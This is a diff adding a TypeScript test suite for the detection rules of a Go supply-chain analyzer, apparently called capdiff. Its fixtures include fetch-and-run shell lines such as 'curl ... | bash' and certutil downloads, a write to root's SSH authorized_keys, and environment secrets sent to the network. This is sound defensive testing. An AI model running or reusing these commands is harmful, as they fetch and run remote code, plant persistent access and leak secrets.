@@ -1,0 +1,518 @@
+/** Each rule with what it speaks of, and what it does not. A case: what there is, then the tier, or none. */
+import type { Change, Tier } from "@capdiff/analyzer";
+import { describe, expect, it } from "vitest";
+import { rules } from "../../src/index.ts";
+import { at, call, constants, everywhere, evidence, flow, type Known, m, reaches, way } from "./samples.ts";
+
+interface Case {
+  readonly what: string;
+  readonly changes: readonly Change[];
+  readonly known?: Known;
+  readonly tier: Tier | "nothing";
+  /** What the message has. */
+  readonly says?: RegExp;
+}
+
+const fetched = ["network", "net/http.Get"] as const;
+const run = ["exec", "os/exec.Command"] as const;
+const sent = ["send", "net/http.Post"] as const;
+
+const goroutine: Change = {
+  kind: "goroutine",
+  change: "added",
+  package: m,
+  function: `${m}.Open`,
+  callee: `${m}.watch`,
+  capabilities: ["EXEC", "NETWORK/DIAL"],
+  waits: true,
+  existing: true,
+  builds: everywhere,
+  site: { position: at(3), source: "go watch()" },
+};
+
+function signal(kind: Extract<Change, { kind: "signal" }>["signal"]): Change {
+  return { kind: "signal", change: "added", signal: kind, position: at(7), text: "what is there" };
+}
+
+function directive(kind: Extract<Change, { kind: "directive" }>["directive"], text: string): Change {
+  return {
+    kind: "directive",
+    change: "added",
+    directive: kind,
+    package: m,
+    position: at(2),
+    text,
+    builds: everywhere,
+  };
+}
+
+function file(role: Extract<Change, { kind: "file" }>["role"]): Change {
+  return { kind: "file", change: "added", name: `blob.${role}`, role, size: 9, sha256: "ab".repeat(32) };
+}
+
+function required(indirect = false): Change {
+  return {
+    kind: "go-mod",
+    change: "added",
+    directive: "require",
+    subject: "example.test/dep",
+    value: "v1.0.0",
+    ...(indirect && { indirect: true }),
+  };
+}
+
+function capability(name: string, newToModule: boolean): Change {
+  const step = { function: `${m}.run`, package: m, use: "call", site: at(10), source: "" } as const;
+  return {
+    kind: "capability",
+    change: "added",
+    package: m,
+    capability: name,
+    wholePackage: false,
+    newToModule,
+    path: "direct",
+    certainty: "static",
+    builds: everywhere,
+    witness: { steps: [step], terminal: { kind: "function", name: "os/exec.Command" } },
+  };
+}
+
+const folded = (value: string, by: readonly ("indexing" | "concatenation")[], pieces: number) => [
+  { text: "x", folded: { value, by, pieces } },
+];
+
+const cases: Readonly<Record<string, readonly Case[]>> = {
+  "network-to-exec": [
+    {
+      what: "in a module that could do neither",
+      changes: [flow(fetched, run)],
+      tier: "block",
+      says: /reads from the network/,
+    },
+    {
+      what: "when the program starts",
+      changes: [flow(fetched, run)],
+      known: { had: ["EXEC", "NETWORK/DIAL"], ways: { atStart: [way(`${m}.init#1`)] } },
+      tier: "block",
+    },
+    {
+      what: "a new feature of a module that could do both",
+      changes: [flow(fetched, run)],
+      known: { had: ["EXEC", "NETWORK/DIAL"] },
+      tier: "review",
+    },
+    { what: "through an interface", changes: [flow(fetched, run, { certainty: "dynamic" })], tier: "review" },
+    {
+      what: "where the old version did the same",
+      changes: [flow(fetched, run)],
+      known: { hadFlows: ["network exec"] },
+      tier: "inform",
+    },
+    {
+      what: "the published copy alone",
+      changes: [flow(fetched, run, { certainty: "dynamic" })],
+      known: { mode: "published" },
+      tier: "block",
+    },
+    { what: "one version alone", changes: [flow(fetched, run)], known: { mode: "single" }, tier: "inform" },
+    { what: "the environment", changes: [flow(["environment", "os.Getenv"], run)], tier: "nothing" },
+  ],
+  "fetching-shell-line": [
+    {
+      what: "fetch piped to a shell",
+      changes: [
+        call("os/exec.Command", ["EXEC"], {
+          arguments: constants("sh", "-c", "curl -s http://a.example.test | bash"),
+        }),
+      ],
+      tier: "block",
+      says: /interpreter/,
+    },
+    {
+      what: "certutil",
+      changes: [
+        call("os/exec.Command", ["EXEC"], {
+          arguments: constants("cmd", "/C", "certutil -urlcache -f http://a.example.test x.exe"),
+        }),
+      ],
+      tier: "block",
+    },
+    {
+      what: "a line that was there before",
+      changes: [
+        call("os/exec.Command", ["EXEC"], {
+          change: "removed",
+          arguments: constants("sh", "-c", "curl x | sh"),
+        }),
+      ],
+      tier: "nothing",
+    },
+    {
+      what: "an ordinary line",
+      changes: [call("os/exec.Command", ["EXEC"], { arguments: constants("sh", "-c", "ls | sort") })],
+      tier: "nothing",
+    },
+    {
+      what: "such text that is only written",
+      changes: [call("os.WriteFile", ["FILES/WRITE"], { arguments: constants("README", "curl x | sh") })],
+      tier: "nothing",
+    },
+  ],
+  "assembled-constant": [
+    {
+      what: "an address of single letters",
+      changes: [call("net.Dial", ["NETWORK/DIAL"], { arguments: folded("192.0.2.7:443", ["indexing"], 13) })],
+      tier: "block",
+      says: /192\.0\.2\.7:443/,
+    },
+    {
+      what: "a word of two pieces",
+      changes: [call("os/exec.Command", ["EXEC"], { arguments: folded("git", ["concatenation"], 2) })],
+      tier: "nothing",
+    },
+    {
+      what: "a plain constant",
+      changes: [call("net.Dial", ["NETWORK/DIAL"], { arguments: constants("192.0.2.7:443") })],
+      tier: "nothing",
+    },
+  ],
+  "startup-file-written": [
+    {
+      what: "keys that may log in",
+      changes: [
+        call("os.WriteFile", ["FILES/WRITE"], { arguments: constants("/root/.ssh/authorized_keys") }),
+      ],
+      tier: "block",
+    },
+    {
+      what: "a unit of a service manager",
+      changes: [
+        call("os.WriteFile", ["FILES/WRITE"], { arguments: constants("/etc/systemd/system/a.service") }),
+      ],
+      tier: "review",
+    },
+    {
+      what: "data that is written there",
+      changes: [flow(fetched, ["startup", "os.WriteFile"])],
+      tier: "block",
+    },
+    {
+      what: "reading it",
+      changes: [call("os.ReadFile", ["FILES/READ"], { arguments: constants("/root/.ssh/authorized_keys") })],
+      tier: "nothing",
+    },
+    {
+      what: "another file",
+      changes: [call("os.WriteFile", ["FILES/WRITE"], { arguments: constants("out.txt") })],
+      tier: "nothing",
+    },
+  ],
+  "runs-at-start": [
+    { what: "init runs a program", changes: [reaches("init", "EXEC")], tier: "block" },
+    {
+      what: "an initialiser connects",
+      changes: [reaches("initializer", "NETWORK/DIAL", { terminal: "net.Dial" })],
+      tier: "block",
+    },
+    {
+      what: "init writes a file",
+      changes: [reaches("init", "FILES/WRITE", { terminal: "os.WriteFile" })],
+      tier: "review",
+    },
+    {
+      what: "perhaps, through an interface",
+      changes: [reaches("init", "EXEC", { certainty: "dynamic", callees: 5 })],
+      tier: "inform",
+    },
+    {
+      what: "through another module",
+      changes: [reaches("init", "EXEC", { module: "example.test/dep@v1.0.0" })],
+      tier: "inform",
+    },
+    { what: "an exported function", changes: [reaches("exported-function", "EXEC")], tier: "nothing" },
+    {
+      what: "init reads the environment",
+      changes: [reaches("init", "READ_SYSTEM_STATE/ENV")],
+      tier: "nothing",
+    },
+  ],
+  "secrets-to-network": [
+    {
+      what: "the environment, at start",
+      changes: [flow(["environment", "os.Environ"], sent)],
+      known: { ways: { atStart: [way(`${m}.init#1`)] } },
+      tier: "block",
+    },
+    {
+      what: "a credential file",
+      changes: [flow(["credential", "os.ReadFile"], sent)],
+      known: { had: ["NETWORK/DIAL"] },
+      tier: "review",
+    },
+    {
+      what: "the environment, from a function that callers know",
+      changes: [flow(["environment", "os.Getenv"], sent)],
+      known: { had: ["NETWORK"], ways: { existing: [way(`${m}.Get`)] } },
+      tier: "review",
+    },
+    { what: "facts about the machine", changes: [flow(["host", "os.Hostname"], sent)], tier: "inform" },
+    {
+      what: "where the old version did the same",
+      changes: [flow(["environment", "os.Getenv"], sent)],
+      known: { hadFlows: ["environment send"] },
+      tier: "inform",
+    },
+    {
+      what: "what is only written to a file",
+      changes: [flow(["environment", "os.Getenv"], ["file", "os.WriteFile"])],
+      tier: "nothing",
+    },
+  ],
+  "far-right-code": [
+    { what: "code out of sight", changes: [signal("far-right-code")], tier: "block" },
+    { what: "another signal", changes: [signal("invisible")], tier: "nothing" },
+  ],
+  "disguised-file": [
+    { what: "a program named like a font", changes: [signal("disguised-file")], tier: "block" },
+    { what: "another signal", changes: [signal("invisible")], tier: "nothing" },
+  ],
+  "run-on-open": [
+    { what: "a task of an editor", changes: [signal("run-on-open")], tier: "block" },
+    { what: "another signal", changes: [signal("invisible")], tier: "nothing" },
+  ],
+  "misleading-characters": [
+    { what: "characters without width", changes: [signal("invisible")], tier: "review" },
+    { what: "another signal", changes: [signal("run-on-open")], tier: "nothing" },
+  ],
+  "decoded-to-exec": [
+    {
+      what: "decoded and run",
+      changes: [flow(["decoded", "(*encoding/base64.Encoding).DecodeString"], run)],
+      tier: "review",
+    },
+    {
+      what: "decoded and written",
+      changes: [flow(["decoded", "encoding/hex.DecodeString"], ["file", "os.WriteFile"])],
+      tier: "nothing",
+    },
+  ],
+  "background-loop": [
+    {
+      what: "from a function that begins things",
+      changes: [goroutine],
+      known: { ways: { existing: [way(`${m}.Open`)] } },
+      tier: "review",
+    },
+    {
+      what: "from init",
+      changes: [goroutine],
+      known: { ways: { atStart: [way(`${m}.init#1`)] } },
+      tier: "block",
+    },
+    {
+      what: "one that does not wait",
+      changes: [{ ...goroutine, waits: false }],
+      known: { ways: { existing: [way(`${m}.Open`)] } },
+      tier: "nothing",
+    },
+    {
+      what: "one that reaches nothing",
+      changes: [{ ...goroutine, capabilities: ["FILES/READ"] }],
+      known: { ways: { existing: [way(`${m}.Open`)] } },
+      tier: "nothing",
+    },
+  ],
+  "odd-destination": [
+    {
+      what: "a raw public address",
+      changes: [call("net.Dial", ["NETWORK/DIAL"], { arguments: constants("tcp", "192.0.2.7:443") })],
+      tier: "review",
+    },
+    {
+      what: "a paste site",
+      changes: [
+        call("net/http.Post", ["NETWORK/DIAL"], { arguments: constants("https://pastebin.com/api") }),
+      ],
+      tier: "review",
+    },
+    {
+      what: "the machine itself",
+      changes: [call("net.Dial", ["NETWORK/DIAL"], { arguments: constants("tcp", "127.0.0.1:443") })],
+      tier: "nothing",
+    },
+    {
+      what: "an ordinary host",
+      changes: [
+        call("net/http.Get", ["NETWORK/DIAL"], { arguments: constants("https://api.example.test/v1") }),
+      ],
+      tier: "nothing",
+    },
+    {
+      what: "a version with four numbers",
+      changes: [call("net/http.Get", ["NETWORK/DIAL"], { arguments: constants("8.1.2.3") })],
+      tier: "nothing",
+    },
+  ],
+  "existing-function-reaches": [
+    { what: "new to the module", changes: [reaches("exported-function", "EXEC")], tier: "review" },
+    {
+      what: "known to the module",
+      changes: [reaches("exported-function", "EXEC")],
+      known: { had: ["EXEC"] },
+      tier: "inform",
+    },
+    {
+      what: "a program that the code names",
+      changes: [
+        call("os/exec.Command", ["EXEC"], {
+          site: { position: at(10), source: "" },
+          arguments: constants("git", "rev-parse"),
+        }),
+        reaches("exported-function", "EXEC"),
+      ],
+      tier: "inform",
+    },
+    {
+      what: "a shell that the code names",
+      changes: [
+        call("os/exec.Command", ["EXEC"], {
+          site: { position: at(10), source: "" },
+          arguments: constants("sh", "-c", "ls"),
+        }),
+        reaches("exported-function", "EXEC"),
+      ],
+      tier: "review",
+    },
+    {
+      what: "perhaps, through an interface",
+      changes: [reaches("exported-function", "EXEC", { certainty: "dynamic", callees: 5 })],
+      tier: "nothing",
+    },
+    { what: "reading files", changes: [reaches("exported-function", "FILES/READ")], tier: "nothing" },
+  ],
+  "new-function-reaches": [
+    {
+      what: "in a module that could neither",
+      changes: [reaches("exported-function", "NETWORK/DIAL", { existing: false, terminal: "net/http.Get" })],
+      tier: "review",
+    },
+    {
+      what: "in a module with network",
+      changes: [reaches("exported-function", "EXEC", { existing: false })],
+      known: { had: ["NETWORK/DIAL"] },
+      tier: "inform",
+    },
+    {
+      what: "what the module had",
+      changes: [reaches("exported-function", "EXEC", { existing: false })],
+      known: { had: ["EXEC"] },
+      tier: "nothing",
+    },
+  ],
+  "copy-can-do-more": [
+    {
+      what: "a clone that runs programs",
+      changes: [capability("EXEC", true)],
+      known: { mode: "clone" },
+      tier: "review",
+    },
+    {
+      what: "a clone that does so in one more package",
+      changes: [capability("EXEC", false)],
+      known: { mode: "clone", had: ["EXEC"] },
+      tier: "inform",
+    },
+    { what: "two versions", changes: [capability("EXEC", true)], tier: "nothing" },
+  ],
+  "new-dependency-reaches": [
+    {
+      what: "that the module could not",
+      changes: [required(), reaches("exported-function", "EXEC", { module: "example.test/dep@v1.0.0" })],
+      tier: "review",
+    },
+    {
+      what: "that others brought",
+      changes: [required(true), reaches("exported-function", "EXEC", { module: "example.test/dep@v1.0.0" })],
+      tier: "inform",
+    },
+    { what: "that brings nothing", changes: [required()], tier: "nothing" },
+  ],
+  "beyond-go": [
+    {
+      what: "C that runs when it is loaded",
+      changes: [directive("cgo-preamble", "__attribute__((constructor)) void f(void) {}")],
+      tier: "review",
+    },
+    { what: "plain C", changes: [directive("cgo-preamble", "#include <stdio.h>")], tier: "inform" },
+    {
+      what: "a plugin of the compiler",
+      changes: [directive("cgo-flags", "CFLAGS: -fplugin=./x.so")],
+      tier: "review",
+    },
+    { what: "a name of syscall", changes: [directive("linkname", "raw syscall.RawSyscall")], tier: "review" },
+    { what: "a program", changes: [file("executable")], tier: "review" },
+    { what: "assembly", changes: [file("assembly")], tier: "inform" },
+    { what: "a template that is embedded", changes: [directive("embed", "page.html")], tier: "nothing" },
+  ],
+  "gained-capability": [
+    { what: "new to the module", changes: [capability("EXEC", true)], tier: "inform" },
+    { what: "new to a package", changes: [capability("EXEC", false)], tier: "nothing" },
+  ],
+  "other-source": [
+    {
+      what: "a replace",
+      changes: [
+        { kind: "go-mod", change: "added", directive: "replace", subject: "example.test/a", value: "../a" },
+      ],
+      tier: "inform",
+    },
+    { what: "a require", changes: [required()], tier: "nothing" },
+  ],
+  "incomplete-analysis": [
+    {
+      what: "a broken file",
+      changes: [],
+      known: {
+        diagnostics: [
+          { code: "syntax-error", severity: "error", message: "broken", incomplete: true, file: "a.go" },
+        ],
+      },
+      tier: "inform",
+    },
+    {
+      what: "a note",
+      changes: [],
+      known: { diagnostics: [{ code: "note", severity: "info", message: "note", incomplete: false }] },
+      tier: "nothing",
+    },
+  ],
+};
+
+const order: readonly Tier[] = ["block", "review", "inform"];
+
+describe.each(rules.map((rule) => [rule.id, rule] as const))("%s", (id, rule) => {
+  const own = cases[id] ?? [];
+
+  it("has a case of which it speaks, and one of which it does not", () => {
+    expect(own.some(({ tier }) => tier !== "nothing")).toBe(true);
+    expect(own.some(({ tier }) => tier === "nothing")).toBe(true);
+  });
+
+  it("says what it is about", () => {
+    expect(rule.title).toMatch(/^\p{Lu}/u);
+    expect([rule.seen, rule.why].every((text) => text.endsWith("."))).toBe(true);
+    expect(rule.benign.length).toBeGreaterThan(0);
+  });
+
+  it.each(own.map((one) => [one.what, one] as const))("%s", (_, { changes, known, tier, says }) => {
+    const found = [...rule.find(evidence(changes, known))];
+    const worst = order.find((one) => found.some((draft) => draft.tier === one)) ?? "nothing";
+    expect(worst).toBe(tier);
+    for (const { message, locations, tier: said } of found) {
+      expect(locations.length).toBeGreaterThan(0);
+      expect(message).not.toMatch(/undefined|\n/u);
+      expect(order.indexOf(said)).toBeGreaterThanOrEqual(order.indexOf(rule.tier));
+      if (says !== undefined) expect(message).toMatch(says);
+    }
+  });
+});
